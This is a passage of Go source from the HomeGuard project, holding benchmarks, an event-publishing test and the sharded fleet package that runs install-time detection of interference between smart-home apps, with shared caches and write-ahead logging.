		b.Fatal("empty demo corpus")
	}
	f := New(Options{Shards: 64})
	var homeSeq atomic.Int64
	b.ReportAllocs()
	b.ResetTimer()
	var ferr firstErr
	b.RunParallel(func(pb *testing.PB) {
		for pb.Next() {
			id := fmt.Sprintf("home-%06d", homeSeq.Add(1))
			for _, app := range demo {
				if _, err := f.Install(context.Background(), id, app.Source, nil); err != nil {
					ferr.set(fmt.Errorf("%s: install %s: %w", id, app.Name, err))
					return
				}
			}
		}
	})
	b.StopTimer()
	if ferr.err != nil {
		b.Fatal(ferr.err)
	}

	cs := f.Cache().Stats()
	if int(cs.Misses) != len(demo) {
		b.Fatalf("cache misses = %d, want one extraction per distinct app (%d): the cache benefit is gone",
			cs.Misses, len(demo))
	}
	m := f.Metrics()
	b.ReportMetric(cs.HitRate(), "hit-ratio")
	b.ReportMetric(float64(cs.Misses), "extractions")
	b.ReportMetric(float64(m.InstallP99.Microseconds()), "p99-µs")
}

// BenchmarkFleetInstallTraced is BenchmarkFleetInstall with span tracing
// enabled and every request captured: each install records its full
// pipeline span tree (extract/detect/compile/solve/...) into the bounded
// capture. Comparing against BenchmarkFleetInstall quantifies the
// tracing-on overhead; BENCH_pr6.json records both. (Tracing-off
// overhead is zero by construction — disabled spans are nil no-ops —
// which the DetectPair allocation gate pins in CI.)
func BenchmarkFleetInstallTraced(b *testing.B) {
	demo := corpus.ByCategory(corpus.Demo)
	if len(demo) == 0 {
		b.Fatal("empty demo corpus")
	}
	o := obs.NewObserver()
	o.Tracer.SetEnabled(true)
	f := New(Options{Shards: 64, Obs: o})
	var homeSeq atomic.Int64
	b.ReportAllocs()
	b.ResetTimer()
	var ferr firstErr
	b.RunParallel(func(pb *testing.PB) {
		for pb.Next() {
			id := fmt.Sprintf("home-%06d", homeSeq.Add(1))
			for _, app := range demo {
				if _, err := f.Install(context.Background(), id, app.Source, nil); err != nil {
					ferr.set(fmt.Errorf("%s: install %s: %w", id, app.Name, err))
					return
				}
			}
		}
	})
	b.StopTimer()
	if ferr.err != nil {
		b.Fatal(ferr.err)
	}
	if total := o.Capture.Snapshot().Total; total == 0 {
		b.Fatal("tracing-enabled run captured no span trees")
	}
}

// BenchmarkFleetInstallSharedApps measures the pair-verdict cache on the
// fleet's hot path: each iteration is one new home installing the shared
// five-app demo catalog, in parallel across GOMAXPROCS goroutines. Every
// distinct app pair is solved once fleet-wide and every later home is
// served its verdicts from the shared cache, so marginal solver time per
// home goes to near zero. Run with -benchtime 1000x for the 1k-home
// configuration; at 100+ homes the run fails unless the verdict hit ratio
// is >= 0.99 and solver invocations are at least 5x below the cache-less
// projection.
func BenchmarkFleetInstallSharedApps(b *testing.B) {
	demo := corpus.ByCategory(corpus.Demo)
	if len(demo) == 0 {
		b.Fatal("empty demo corpus")
	}
	f := New(Options{Shards: 64})
	var homeSeq atomic.Int64
	b.ReportAllocs()
	b.ResetTimer()
	var ferr firstErr
	b.RunParallel(func(pb *testing.PB) {
		for pb.Next() {
			id := fmt.Sprintf("home-%06d", homeSeq.Add(1))
			for _, app := range demo {
				if _, err := f.Install(context.Background(), id, app.Source, nil); err != nil {
					ferr.set(fmt.Errorf("%s: install %s: %w", id, app.Name, err))
					return
				}
			}
		}
	})
	b.StopTimer()
	if ferr.err != nil {
		b.Fatal(ferr.err)
	}

	// Cache-less projection: one home's solver bill with verdict sharing
	// off, times the number of homes the benchmark created. Per-home cost
	// is constant (same catalog, same order), so one home projects exactly.
	base := New(Options{Shards: 1, DisablePairVerdicts: true})
	for _, app := range demo {
		if _, err := base.Install(context.Background(), "baseline", app.Source, nil); err != nil {
			b.Fatalf("baseline install %s: %v", app.Name, err)
		}
	}
	homes := uint64(homeSeq.Load())
	projected := base.Metrics().Detectors.SolverCalls * homes

	pv := f.Verdicts().Stats()
	solverCalls := f.Metrics().Detectors.SolverCalls
	b.ReportMetric(pv.HitRate(), "pair-hit-ratio")
	b.ReportMetric(float64(solverCalls), "solver-calls")
	if solverCalls > 0 {
		b.ReportMetric(float64(projected)/float64(solverCalls), "solver-speedup")
	}

	if homes >= 100 {
		// The ideal ratio is (homes-1)/homes, exactly 0.99 at 100 homes —
		// no margin — so the strict 0.99 gate applies from 200 homes
		// (ideal 0.995) and smaller runs get a floor that tolerates a
		// stray re-miss (e.g. a panic-failed singleflight entry).
		minNum, minDen := uint64(98), uint64(100)
		if homes >= 200 {
			minNum, minDen = 99, 100
		}
		if pv.Hits*minDen < pv.Lookups*minNum {
			b.Fatalf("pair-verdict hit ratio = %.4f over %d homes, want >= %d/%d",
				pv.HitRate(), homes, minNum, minDen)
		}
		if solverCalls*5 > projected {
			b.Fatalf("solver calls = %d vs cache-less projection %d, want >= 5x reduction", solverCalls, projected)
		}
	}
}

// BenchmarkFleetInstallSharedAppsNoVerdictCache is the ablation contrast:
// same shared catalog, but every home re-solves its own pairs. Compare
// ns/op against BenchmarkFleetInstallSharedApps for the verdict-cache
// benefit (extraction stays shared in both, isolating the solver saving).
func BenchmarkFleetInstallSharedAppsNoVerdictCache(b *testing.B) {
	demo := corpus.ByCategory(corpus.Demo)
	f := New(Options{Shards: 64, DisablePairVerdicts: true})
	var homeSeq atomic.Int64
	b.ReportAllocs()
	b.ResetTimer()
	var ferr firstErr
	b.RunParallel(func(pb *testing.PB) {
		for pb.Next() {
			id := fmt.Sprintf("home-%06d", homeSeq.Add(1))
			for _, app := range demo {
				if _, err := f.Install(context.Background(), id, app.Source, nil); err != nil {
					ferr.set(fmt.Errorf("%s: install %s: %w", id, app.Name, err))
					return
				}
			}
		}
	})
	b.StopTimer()
	if ferr.err != nil {
		b.Fatal(ferr.err)
	}
	b.ReportMetric(float64(f.Metrics().Detectors.SolverCalls), "solver-calls")
}

// BenchmarkFleetInstallWAL measures the write-ahead-log overhead on the
// install hot path: the same per-home catalog install as
// BenchmarkFleetInstall, with every mutation appending an op record.
// The fsync-off sub-benchmark isolates the encode+append+frame cost
// (stable across machines — the CI benchjson gate compares it against
// the PR 8 no-WAL install baseline); fsync-always adds the per-record
// fsync a durability-strict deployment pays and is reported for
// information (its ns/op is storage hardware, not code).
func BenchmarkFleetInstallWAL(b *testing.B) {
	demo := corpus.ByCategory(corpus.Demo)
	if len(demo) == 0 {
		b.Fatal("empty demo corpus")
	}
	for _, mode := range []struct {
		name  string
		fsync wal.Policy
	}{
		{"fsync-off", wal.FsyncOff},
		{"fsync-always", wal.FsyncAlways},
	} {
		b.Run(mode.name, func(b *testing.B) {
			l, err := wal.Open(wal.Options{Dir: b.TempDir(), Fsync: mode.fsync})
			if err != nil {
				b.Fatal(err)
			}
			defer l.Close()
			f := New(Options{Shards: 64})
			f.AttachWAL(l)
			var homeSeq atomic.Int64
			b.ReportAllocs()
			b.ResetTimer()
			var ferr firstErr
			b.RunParallel(func(pb *testing.PB) {
				for pb.Next() {
					id := fmt.Sprintf("home-%06d", homeSeq.Add(1))
					for _, app := range demo {
						if _, err := f.Install(context.Background(), id, app.Source, nil); err != nil {
							ferr.set(fmt.Errorf("%s: install %s: %w", id, app.Name, err))
							return
						}
					}
				}
			})
			b.StopTimer()
			if ferr.err != nil {
				b.Fatal(ferr.err)
			}
			if got, want := l.LastLSN(), uint64(homeSeq.Load())*uint64(len(demo)); got != want {
				b.Fatalf("wal holds %d records, want one per install (%d)", got, want)
			}
		})
	}
}

// BenchmarkFleetInstallNoCacheSharing is the contrast case: every home
// uses a private cache, so extraction re-runs per home — the single-home
// baseline the fleet design removes. Compare ns/op against
// BenchmarkFleetInstall for the cache benefit.
func BenchmarkFleetInstallNoCacheSharing(b *testing.B) {
	demo := corpus.ByCategory(corpus.Demo)
	var homeSeq atomic.Int64
	b.ReportAllocs()
	b.ResetTimer()
	var ferr firstErr
	b.RunParallel(func(pb *testing.PB) {
		for pb.Next() {
			// A one-home fleet with its own cache: no cross-home reuse.
			f := New(Options{Shards: 1})
			id := fmt.Sprintf("home-%06d", homeSeq.Add(1))
			for _, app := range demo {
				if _, err := f.Install(context.Background(), id, app.Source, nil); err != nil {
					ferr.set(fmt.Errorf("%s: install %s: %w", id, app.Name, err))
					return
				}
			}
		}
	})
	if ferr.err != nil {
		b.Fatal(ferr.err)
	}
}
