package fleet

import (
	"bytes"
	"context"
	"encoding/json"
	"strings"
	"testing"

	"homeguard/internal/events"
)

// TestFleetPublishesEvents wires a Writer into the fleet and checks
// that installs and reconfigures ship one operation event each plus
// one event per reported threat, without blocking the request path.
func TestFleetPublishesEvents(t *testing.T) {
	var buf bytes.Buffer
	w := events.NewWriter(events.NewJSONSink(&buf), events.Options{Buffer: 64})
	f := New(Options{Shards: 4, Events: w})
	ctx := context.Background()

	if _, err := f.Install(ctx, "h1", mustSource(t, "ComfortTV"), nil); err != nil {
		t.Fatal(err)
	}
	res, err := f.Install(ctx, "h1", mustSource(t, "ColdDefender"), nil)
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Threats) == 0 {
		t.Fatal("ColdDefender install reported no threats")
	}
	rc, err := f.Reconfigure(ctx, "h1", "ColdDefender", nil)
	if err != nil {
		t.Fatal(err)
	}
	w.Flush()
	w.Close()

	var got []events.Event
	for _, line := range strings.Split(strings.TrimSpace(buf.String()), "\n") {
		var e events.Event
		if err := json.Unmarshal([]byte(line), &e); err != nil {
			t.Fatalf("bad event line %q: %v", line, err)
		}
		got = append(got, e)
	}
	count := map[string]int{}
	for _, e := range got {
		count[e.Type]++
		if e.Home != "h1" {
			t.Errorf("event for home %q, want h1: %+v", e.Home, e)
		}
	}
	if count[events.TypeInstall] != 2 {
		t.Errorf("install events = %d, want 2", count[events.TypeInstall])
	}
	if count[events.TypeReconfigure] != 1 {
		t.Errorf("reconfigure events = %d, want 1", count[events.TypeReconfigure])
	}
	// One threat event per install-reported threat plus per
	// reconfigure-reported threat.
	wantThreats := len(res.Threats) + len(rc.Threats)
	if count[events.TypeThreat] != wantThreats {
		t.Errorf("threat events = %d, want %d", count[events.TypeThreat], wantThreats)
	}
	// The install operation event carries the threat count and duration.
	for _, e := range got {
		if e.Type == events.TypeInstall && e.App == "ColdDefender" {
			if e.Threats != len(res.Threats) {
				t.Errorf("install event threats = %d, want %d", e.Threats, len(res.Threats))
			}
			if e.DurationMs < 0 {
				t.Errorf("install event duration = %v", e.DurationMs)
			}
		}
	}
}

// TestFleetEventsNilWriter proves the zero-config fleet (no Events)
// works untouched — publication is strictly opt-in.
func TestFleetEventsNilWriter(t *testing.T) {
	f := New(Options{Shards: 2})
	if _, err := f.Install(context.Background(), "h1", mustSource(t, "ComfortTV"), nil); err != nil {
		t.Fatal(err)
	}
}
