// Package fleet scales HomeGuard from one home to many: it manages a
// sharded, goroutine-safe collection of Home instances so one daemon
// process can serve install-time detection for a whole deployment.
//
// # Concurrency model
//
// The underlying detect.Detector is deliberately single-threaded (see the
// package documentation of internal/detect): its satCache, stats and
// curKind fields assume serialized calls. The fleet preserves that
// contract with a two-level locking scheme:
//
//   - homes live in a sharded map (FNV-1a of the home ID picks the
//     shard); each shard has its own RWMutex, so home lookup/creation
//     scales across cores;
//   - every Home carries one mutex that is held for the full duration of
//     any detector call (Install, Reconfigure, FindChains, Accept).
//     Within a home, operations serialize; across homes they run in
//     parallel.
//
// Rule extraction — the dominant cost of an install — happens *outside*
// the per-home lock through a shared content-addressed extractcache.Cache,
// so a hot app store SmartApp is symbolically executed once for the whole
// fleet and concurrent installs of distinct homes never contend.
// Shard and home locks are never held while extracting, and the shard
// lock is never held while a home lock is held, so there is no lock-order
// cycle.
//
// Rule compilation is deduplicated the same way: at install each home's
// detector attaches a CompiledRuleSet (canonical formulas, declaration
// plans, effects, footprint, verdict signature — detect/compile.go) that
// is shared through a content-addressed compile cache keyed by the
// extraction result and the configuration content, so a hot catalog app
// is canonicalized once fleet-wide, not once per home. The compiled
// signature is also what PairKey hashing consumes, so addressing a pair
// verdict costs one SHA-256 finalization, not a rule-set serialization.
//
// Detection solving gets the same treatment through a shared
// pairverdict.Cache: each app pair's verdict is content-addressed by both
// apps' canonical rule sets, configurations and mode list, so a catalog
// installed into a million homes is solved once per distinct pair
// fleet-wide. Unlike extraction, the verdict computation runs *under* the
// computing home's lock (detection reads that home's detector state); a
// home that joins an in-flight entry therefore waits, holding only its own
// home lock, for another home's computation. That cannot deadlock: the
// computation touches exactly one home's lock (its own, already held) and
// never a shard lock, so no cycle through the cache is possible.
package fleet

import (
	"context"
	"errors"
	"fmt"
	"hash/fnv"
	"runtime"
	"sort"
	"sync"
	"time"

	"homeguard/internal/detect"
	"homeguard/internal/events"
	"homeguard/internal/extractcache"
	"homeguard/internal/frontend"
	"homeguard/internal/obs"
	"homeguard/internal/pairverdict"
	"homeguard/internal/rule"
	"homeguard/internal/symexec"
	"homeguard/internal/wal"
)

// Sentinel errors, matchable with errors.Is, so callers (the daemon) can
// map them to statuses without parsing message text.
var (
	// ErrUnknownHome reports an operation on a home the fleet has never
	// seen (Install creates homes; the read/update paths do not).
	ErrUnknownHome = errors.New("unknown home")
	// ErrAppNotInstalled reports a reconfigure of an app absent from the
	// target home.
	ErrAppNotInstalled = errors.New("app not installed")
	// ErrAppInstalled reports an install of an app name the home already
	// has: a retried/duplicated install must not pair an app against its
	// own copy or corrupt the home's threat log.
	ErrAppInstalled = errors.New("app already installed")
	// ErrBadThreatIndex reports an AcceptByIndex index outside the
	// home's threat log.
	ErrBadThreatIndex = errors.New("threat index out of range")
	// ErrHomeExists reports an ImportHome into a home ID this fleet
	// already serves with state: a retried adopt after a success (or a
	// routing mistake) must not double-apply a home.
	ErrHomeExists = errors.New("home already exists")
)

// DefaultVerdictEntries bounds the auto-created pair-verdict cache: about
// a million cached verdicts, a few hundred MB worst-case, far above any
// working set a single daemon's live catalog produces but a hard ceiling
// for reconfigure-churn garbage.
const DefaultVerdictEntries = 1 << 20

// DefaultExtractEntries bounds the auto-created extraction cache: 64k
// distinct app sources — far above any real catalog — so a daemon fed
// one-off sources (user-edited copies, fuzzed installs) cannot grow the
// cache without limit. Evictions are visible in the cache Stats and the
// daemon's /metrics.
const DefaultExtractEntries = 1 << 16

// Options tune a Fleet.
type Options struct {
	// Shards is the number of home-map shards (default 16).
	Shards int
	// Detector is applied to every home's detector (modes, ablations).
	Detector detect.Options
	// Cache is the shared extraction cache; a fresh one is created when
	// nil. Passing a cache lets several fleets (or a fleet plus batch
	// tooling) share extraction work.
	Cache *extractcache.Cache
	// Verdicts is the shared pair-verdict cache: app-pair detection
	// results content-addressed by both apps' rule sets, configurations
	// and mode list, so a catalog installed into many homes is solved once
	// fleet-wide. When nil (and DisablePairVerdicts is unset) a cache
	// bounded at DefaultVerdictEntries is created — reconfigure churn
	// re-keys pairs and would otherwise grow the cache without limit.
	// Passing one shares verdicts between fleets the way Cache shares
	// extractions (use pairverdict.New for an unbounded cache). A cache
	// preset in Detector.Verdicts takes precedence over this field (see
	// withDefaults); set only one of the two.
	Verdicts *pairverdict.Cache
	// DisablePairVerdicts runs every home's detection without the shared
	// verdict cache (ablation / benchmark contrast). It wins over a
	// supplied Verdicts cache, including one preset in Detector.Verdicts.
	DisablePairVerdicts bool
	// MaxChainLen bounds chained-threat search at install (default 4).
	MaxChainLen int
	// Obs is the process-wide observability bundle. When set, the fleet
	// registers a Collector that publishes every fleet/cache/detector
	// counter into Obs.Registry under the homeguard_* names, and the
	// install/reconfigure paths record per-stage spans through Obs.Tracer
	// (free when the tracer is disabled — spans are nil and every span
	// method no-ops). Nil disables both; the JSON MetricsSnapshot works
	// either way.
	Obs *obs.Observer
	// Events, when set, receives one fire-and-forget event per completed
	// install/reconfigure plus one per reported threat, published AFTER
	// the home lock is released. events.Writer.Publish never blocks (a
	// full buffer drops the oldest buffered event), so a slow or wedged
	// sink can never hold up a verdict. Nil publishes nothing.
	Events *events.Writer
}

func (o Options) withDefaults() Options {
	if o.Shards <= 0 {
		o.Shards = 16
	}
	if o.MaxChainLen <= 0 {
		o.MaxChainLen = 4
	}
	if o.Cache == nil {
		o.Cache = extractcache.NewBounded(DefaultExtractEntries)
	}
	// Resolve the verdict-cache precedence once, for both layers: after
	// this block o.Verdicts is what the fleet reports (Verdicts() and
	// metrics) and o.Detector.Verdicts is what homes use, and the two can
	// never disagree.
	if o.DisablePairVerdicts {
		// The ablation flag wins over a supplied cache: a contrast run
		// constructed with both set must actually run cache-less.
		o.Verdicts = nil
		o.Detector.Verdicts = nil
	} else if dv := o.Detector.Verdicts; dv != nil {
		// A cache preset at the detector layer is the cache every home
		// will actually use — it wins even over an Options.Verdicts also
		// set, so Verdicts() and metrics always report the live cache. A
		// foreign PairVerdictCache implementation can't be adopted — the
		// fleet then owns no cache and reports none.
		if pc, ok := dv.(*pairverdict.Cache); ok {
			o.Verdicts = pc
		} else {
			o.Verdicts = nil
		}
	} else {
		if o.Verdicts == nil {
			o.Verdicts = pairverdict.NewBounded(DefaultVerdictEntries)
		}
		o.Detector.Verdicts = o.Verdicts
	}
	return o
}

// Fleet is a goroutine-safe manager of many HomeGuard homes.
type Fleet struct {
	opts     Options
	shards   []*shard
	cache    *extractcache.Cache
	verdicts *pairverdict.Cache // nil when DisablePairVerdicts is set
	metrics  *metrics
	obs      *obs.Observer  // nil when Options.Obs unset
	events   *events.Writer // nil when Options.Events unset
	// wal, when attached (AttachWAL), receives one logical op record per
	// mutation, appended inside the home lock before the caller is
	// acknowledged. Nil runs without durability (tests, ephemeral fleets).
	wal *wal.Log

	// tombstones maps removed home IDs to the LSN of their removal
	// record, persisted in the homes snapshot: replay must not let an
	// install record older than the removal resurrect a migrated home
	// after the checkpoint that captured the removal has GC'd the
	// remove record's segment. Bounded by the number of migrations since
	// the fleet's history began. Guarded by tombMu.
	tombMu     sync.Mutex
	tombstones map[string]uint64
}

type shard struct {
	mu    sync.RWMutex
	homes map[string]*home
}

// home is one managed smart home. mu serializes every detector call; the
// detector itself is not safe for concurrent use.
type home struct {
	mu      sync.Mutex
	id      string
	det     *detect.Detector
	threats []detect.Threat // every threat reported for this home, in order
	// ledger is the home's incremental threat ledger: the CURRENT threat
	// set, grouped by app pair in first-report order. Installs append the
	// new app's pair groups; Reconfigure splices — only the entries whose
	// pair involves the changed app are replaced (or dropped when the new
	// config resolves them), everything else is retained verbatim, so the
	// home's live view is maintained without ever recomputing unaffected
	// pairs. The threats log above stays the append-only history.
	// Guarded by mu.
	ledger []ledgerEntry
	// detSeen is the detector-counter high-water mark already folded into
	// fleet metrics (see takeDetectorDelta). Guarded by mu.
	detSeen DetectorTotals
	// groupBuf and usedBuf are reusable scratch for groupRuns/spliceLedger
	// (the ledger copies entry values out, so the buffers are free to reuse
	// on the next operation). Guarded by mu.
	groupBuf []ledgerEntry
	usedBuf  []bool
	// walLSN is the LSN of the last WAL record reflected in this home's
	// state (the ARIES page-LSN idea, per home): set under mu at append
	// time, persisted in snapshots, and compared at replay so a record
	// already captured by the checkpoint is never applied twice. Guarded
	// by mu.
	walLSN uint64
	// migrated marks a home DetachHome has exported and removed: a
	// goroutine that looked the home up before the detach and acquires mu
	// after it must fail with ErrUnknownHome instead of mutating (and
	// WAL-appending for) a home whose removal is already logged. Guarded
	// by mu.
	migrated bool
}

// ledgerEntry is one app pair's current threats (a == b for intra-app
// pairs; a <= b otherwise).
type ledgerEntry struct {
	a, b    string
	threats []detect.Threat
}

// pairNames returns a threat's participant apps in canonical order.
func pairNames(t detect.Threat) (string, string) {
	a, b := t.R1.App, t.R2.App
	if b < a {
		a, b = b, a
	}
	return a, b
}

// groupRuns folds a detection result into ledger entries, one per app
// pair, in first-report order. It exploits the detector's output order —
// the intra pair first, then each candidate counterpart's threats as one
// contiguous run (candidates pair in ascending slot order and each pair
// runs exactly once) — so grouping is a single boundary-detecting walk:
// no per-pair map, no per-group slice. The entries subslice one defensive
// copy of threats (the caller owns the original and may mutate it), and
// land in h.groupBuf, which is reused across operations; callers must
// copy the entry values out (appending to h.ledger does) before the next
// call. Callers hold h.mu.
func (h *home) groupRuns(threats []detect.Threat) []ledgerEntry {
	out := h.groupBuf[:0]
	defer func() { h.groupBuf = out }()
	if len(threats) == 0 {
		return out
	}
	own := append([]detect.Threat(nil), threats...)
	start := 0
	a0, b0 := pairNames(own[0])
	for i := 1; i < len(own); i++ {
		a, b := pairNames(own[i])
		if a == a0 && b == b0 {
			continue
		}
		out = append(out, ledgerEntry{a: a0, b: b0, threats: own[start:i:i]})
		start, a0, b0 = i, a, b
	}
	out = append(out, ledgerEntry{a: a0, b: b0, threats: own[start:len(own):len(own)]})
	return out
}

// spliceLedger applies a reconfigure's re-detection result: entries
// involving appName are replaced in place by the pair's new threats (or
// dropped when the pair is now clean), untouched entries keep their
// position, and newly threatening pairs append at the end. The rewrite is
// incremental per candidate pair: new groups come from one groupRuns walk
// and are matched against the ledger with a cursor (detection re-pairs
// candidates in the order they first reported, so the match is almost
// always the cursor position and the scan fallback is a rare
// near-miss), replacing the map rebuild that made dense-home
// reconfigures allocate per pair. Callers hold h.mu.
func (h *home) spliceLedger(appName string, threats []detect.Threat) {
	groups := h.groupRuns(threats)
	used := h.usedBuf[:0]
	for range groups {
		used = append(used, false)
	}
	h.usedBuf = used
	next := 0 // cursor into groups: first candidate not yet matched
	out := h.ledger[:0]
	for _, e := range h.ledger {
		if e.a != appName && e.b != appName {
			out = append(out, e)
			continue
		}
		i := next
		if i >= len(groups) || used[i] || groups[i].a != e.a || groups[i].b != e.b {
			i = -1
			for j := range groups {
				if !used[j] && groups[j].a == e.a && groups[j].b == e.b {
					i = j
					break
				}
			}
		}
		if i < 0 {
			continue // pair now clean: entry dropped
		}
		used[i] = true
		out = append(out, groups[i])
		for next < len(groups) && used[next] {
			next++
		}
	}
	for i := range groups {
		if !used[i] {
			out = append(out, groups[i])
		}
	}
	h.ledger = out
}

// takeDetectorDelta returns the home detector's counter growth since the
// last call and advances the high-water mark. Callers hold h.mu; the
// delta is folded into fleet metrics after the lock is released so a
// metrics scrape never waits on a home lock.
func (h *home) takeDetectorDelta() DetectorTotals {
	cur := detectorTotalsOf(h.det.Stats())
	delta := cur.minus(h.detSeen)
	h.detSeen = cur
	return delta
}

// New creates an empty fleet.
func New(opts Options) *Fleet {
	opts = opts.withDefaults()
	f := &Fleet{
		opts:       opts,
		shards:     make([]*shard, opts.Shards),
		cache:      opts.Cache,
		verdicts:   opts.Verdicts,
		metrics:    newMetrics(),
		obs:        opts.Obs,
		events:     opts.Events,
		tombstones: map[string]uint64{},
	}
	for i := range f.shards {
		f.shards[i] = &shard{homes: map[string]*home{}}
	}
	if f.obs != nil {
		f.registerCollector(f.obs.Registry)
	}
	return f
}

func (f *Fleet) shardFor(homeID string) *shard {
	h := fnv.New32a()
	h.Write([]byte(homeID))
	return f.shards[h.Sum32()%uint32(len(f.shards))]
}

// homeFor returns the home, creating it on first use.
func (f *Fleet) homeFor(homeID string) *home {
	s := f.shardFor(homeID)
	s.mu.RLock()
	h := s.homes[homeID]
	s.mu.RUnlock()
	if h != nil {
		return h
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	if h = s.homes[homeID]; h != nil {
		return h
	}
	// opts.Detector was fully resolved by withDefaults (verdict-cache
	// precedence applied there, in one place), so homes and the reporting
	// layer can never disagree about which cache is in use.
	h = &home{id: homeID, det: detect.New(f.opts.Detector)}
	s.homes[homeID] = h
	f.metrics.homeCreated()
	return h
}

// lookup returns the home or nil without creating it.
func (f *Fleet) lookup(homeID string) *home {
	s := f.shardFor(homeID)
	s.mu.RLock()
	defer s.mu.RUnlock()
	return s.homes[homeID]
}

// InstallResult is what an install returns to the frontend; it mirrors
// the single-home homeguard.InstallResult.
type InstallResult struct {
	HomeID  string
	App     symexec.AppInfo
	Rules   []*rule.Rule
	Threats []detect.Threat
	// ThreatLogBase is the index of Threats[0] in the home's threat log
	// (AcceptByIndex addressing): Threats[i] is log entry ThreatLogBase+i.
	ThreatLogBase int
	// Chains are multi-hop interference chains through previously
	// accepted threats (Sec. VI-D).
	Chains []detect.Chain
	// Report is the rendered installation dialog.
	Report string
	// Warnings are extraction diagnostics.
	Warnings []string
}

// opSpan returns the pipeline span for one fleet operation: a child of
// the span carried by ctx when there is one (the daemon's HTTP handlers
// root a request span there), else a fresh root span from the fleet's
// tracer. Nil — and free — when tracing is off.
func (f *Fleet) opSpan(ctx context.Context, name string) *obs.Span {
	if parent := obs.Trace(ctx); parent != nil {
		return parent.Child(name)
	}
	if f.obs != nil {
		return f.obs.Tracer.Start(name)
	}
	return nil
}

// Install extracts src (through the shared cache) and runs CAI detection
// against every app already installed in the identified home, creating
// the home on first use. cfg may be nil (type-level device identity).
// Installing an app name the home already has fails with ErrAppInstalled
// (retried requests must not duplicate the app); use Reconfigure to
// change an installed app's configuration.
//
// ctx is first-class: when it carries an obs.Span (or the fleet's
// tracer is enabled), the install records per-stage spans — extract,
// detect (with the detector's compile/candidates/verdict/solve
// children), chains, ledger, report — and a ctx already expired at a
// stage boundary aborts the install with ctx.Err() before detection
// mutates the home. Callers without a request context pass
// context.Background().
func (f *Fleet) Install(ctx context.Context, homeID, src string, cfg *detect.Config) (*InstallResult, error) {
	start := time.Now()
	sp := f.opSpan(ctx, "install")
	defer sp.End()
	sp.SetStr("home", homeID)

	esp := sp.Child("extract")
	res, err := f.cache.Extract(src, "")
	esp.End()
	if err != nil {
		f.metrics.installFailed()
		f.events.Publish(events.Event{Type: events.TypeInstall, Home: homeID, Err: err.Error()})
		return nil, fmt.Errorf("fleet: home %s: %w", homeID, err)
	}
	// Deadline check at the extract/detect boundary: an expired request
	// must not take the home lock and mutate the threat log for a caller
	// that has already given up.
	if err := ctx.Err(); err != nil {
		f.metrics.installFailed()
		return nil, fmt.Errorf("fleet: home %s: %w", homeID, err)
	}
	sp.SetStr("app", res.App.Name)
	// Encode the WAL record before taking the home lock — the payload is
	// a pure function of the request, and JSON marshaling does not belong
	// in the critical section.
	var opRec []byte
	if f.wal != nil {
		if opRec, err = encodeInstallOp(homeID, src, cfg); err != nil {
			f.metrics.installFailed()
			return nil, fmt.Errorf("fleet: home %s: wal encode: %w", homeID, err)
		}
	}
	h := f.homeFor(homeID)

	// The locked section runs in a closure so a detection panic (which
	// pairverdict.Cache deliberately re-raises after releasing its
	// waiters) unlocks the home on the way out: net/http recovers handler
	// panics, and a mutex left locked would wedge the home forever.
	var (
		threats []detect.Threat
		chains  []detect.Chain
		logBase int
		det     DetectorTotals
		dup     bool
		gone    bool
		walErr  error
	)
	func() {
		h.mu.Lock()
		defer h.mu.Unlock()
		if h.migrated {
			gone = true
			return
		}
		for _, a := range h.det.Apps() {
			if a.Info.Name == res.App.Name {
				dup = true
				return
			}
		}
		// The detector records its stage spans (compile, candidates,
		// verdict, solve) as children of the detect span. SetSpan is
		// legal here because the home lock serializes the detector; the
		// deferred reset keeps a panic from leaking the span into the
		// next operation.
		dsp := sp.Child("detect")
		h.det.SetSpan(dsp)
		defer h.det.SetSpan(nil)
		threats = h.det.Install(detect.NewInstalledApp(res, cfg))
		dsp.End()
		csp := sp.Child("chains")
		chains = h.det.FindChains(threats, f.opts.MaxChainLen)
		csp.End()
		lsp := sp.Child("ledger")
		logBase = len(h.threats)
		h.threats = append(h.threats, threats...)
		// Every pair of an install involves the new app, so its groups are
		// all fresh ledger entries.
		h.ledger = append(h.ledger, h.groupRuns(threats)...)
		lsp.End()
		det = h.takeDetectorDelta()
		// Commit: the op record is appended under the same lock that made
		// the mutations, so the home's state at any LSN watermark is
		// exactly the prefix of its ops up to that LSN.
		if f.wal != nil {
			wsp := sp.Child("wal.append")
			var lsn uint64
			lsn, walErr = f.wal.Append(wal.OpFleetInstall, opRec)
			wsp.End()
			if walErr == nil {
				h.walLSN = lsn
			}
		}
	}()
	if gone {
		// The home was detached (migrated away) between lookup and lock:
		// the caller must re-route to the new owner.
		f.metrics.installFailed()
		return nil, fmt.Errorf("fleet: %w %q", ErrUnknownHome, homeID)
	}
	if dup {
		// A retried/duplicated request, not a service failure: count it
		// apart from extraction errors so dashboards alerting on
		// InstallErrors don't fire on ordinary client retries.
		f.metrics.installConflicted()
		return nil, fmt.Errorf("fleet: home %s: %w: %q", homeID, ErrAppInstalled, res.App.Name)
	}
	if walErr != nil {
		// Un-acknowledged: the caller must treat the install as failed.
		// The log has latched the error, so no later operation can be
		// acknowledged or checkpointed past this point either.
		f.metrics.installFailed()
		return nil, fmt.Errorf("fleet: home %s: wal append: %w", homeID, walErr)
	}

	rsp := sp.Child("report")
	report := frontend.InstallDialog(res.App.Name, res.Rules.Rules, threats, chains)
	rsp.End()
	f.metrics.detectorDelta(det)
	f.metrics.installDone(time.Since(start), threats)
	f.publishOpEvents(events.TypeInstall, homeID, res.App.Name, threats, time.Since(start))
	return &InstallResult{
		HomeID:        homeID,
		App:           res.App,
		Rules:         res.Rules.Rules,
		Threats:       threats,
		ThreatLogBase: logBase,
		Chains:        chains,
		Report:        report,
		Warnings:      res.Warnings,
	}, nil
}

// publishOpEvents ships one operation event plus one event per reported
// threat to the fleet's event writer. Publish never blocks (and no-ops
// on a nil writer), so this costs the request path a bounded few ring
// writes after the home lock is released.
func (f *Fleet) publishOpEvents(typ, homeID, app string, threats []detect.Threat, d time.Duration) {
	if f.events == nil {
		return
	}
	f.events.Publish(events.Event{
		Type: typ, Home: homeID, App: app,
		Threats: len(threats), DurationMs: float64(d.Microseconds()) / 1000.0,
	})
	for _, t := range threats {
		f.events.Publish(events.Event{
			Type: events.TypeThreat, Home: homeID, App: app, Kind: string(t.Kind),
		})
	}
}

// BatchItem is one app of a batch install.
type BatchItem struct {
	Source string
	Config *detect.Config
}

// BatchResult is one batch item's outcome, in input order.
type BatchResult struct {
	Result *InstallResult
	Err    error
}

// InstallBatch installs several apps into one home. Extraction of every
// distinct source runs first, in parallel, through the fleet's shared
